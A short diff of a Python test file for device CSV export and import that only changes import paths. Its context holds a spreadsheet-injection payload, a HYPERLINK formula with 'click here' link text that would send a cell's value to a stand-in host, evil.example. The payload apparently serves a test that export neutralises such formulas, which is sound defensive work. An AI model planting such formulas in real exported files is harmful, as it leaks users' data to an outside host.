@@ -11,7 +11,7 @@ import sqlalchemy as sa
 from openpyxl import load_workbook
 
 from server.models import Device, Site
-from server.services import safe_cells
+from server.services.core import safe_cells
 from tests.server.plans_helpers import FieldFactory, utc
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
@@ -110,7 +110,7 @@ def poisoned_device(reference_data, factory, db):
 
 
 def test_device_csv_export_quotes_and_imports_back(poisoned_device, tmp_path, db):
-    from server.services.importer import export_devices, import_devices
+    from server.services.core.importer import export_devices, import_devices
 
     path = tmp_path / "devices.csv"
     export_devices(path)
